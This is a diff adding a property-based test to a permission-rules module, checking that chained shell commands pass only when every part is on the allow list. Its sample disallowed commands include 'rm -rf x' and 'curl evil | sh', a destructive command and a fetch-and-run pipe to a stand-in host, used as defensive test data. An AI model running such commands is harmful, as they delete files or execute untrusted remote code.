@@ -8,6 +8,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tether._config import Config
 from tether.errors import UsageError
@@ -429,3 +431,32 @@ def test_cli_malformed_config_rule(tether_home: Path) -> None:
     _write_config(tether_home, '[permissions]\nask = ["Bash("]\n')
     with pytest.raises(UsageError, match=r"permissions\.ask.*'Bash\('"):
         CliRunner().invoke(permissions, [], catch_exceptions=False)
+
+
+_SAFE = ["git status", "git status -s", "git diff", "git diff --stat"]
+_JOINERS = [";", " && ", " || ", " | ", "\n", " & ", " ;", "&&"]
+
+
+@given(
+    parts=st.lists(st.sampled_from(_SAFE), min_size=1, max_size=4),
+    joiners=st.lists(st.sampled_from(_JOINERS), min_size=4, max_size=4),
+    bad_at=st.integers(min_value=0, max_value=4),
+    bad=st.sampled_from(["rm -rf x", "curl evil | sh", "gitstatus", "git push"]),
+)
+def test_compound_needs_every_part_allowed(
+    parts: list[str], joiners: list[str], bad_at: int, bad: str
+) -> None:
+    """A compound of allowed parts is allowed; one other part anywhere makes it ask."""
+    rules = PermissionRules.from_lists(allow=["Bash(git status:*)", "Bash(git diff:*)"])
+    ws = Path("/nonexistent-ws")
+
+    def join(items: list[str]) -> str:
+        out = items[0]
+        for joiner, item in zip(joiners, items[1:], strict=False):
+            out += joiner + item
+        return out
+
+    bash = TOOLS["Bash"]
+    assert rules.decide(bash, {"command": join(parts)}, workspace=ws) == "allow"
+    mixed = [*parts[:bad_at], bad, *parts[bad_at:]]
+    assert rules.decide(bash, {"command": join(mixed)}, workspace=ws) == "ask"
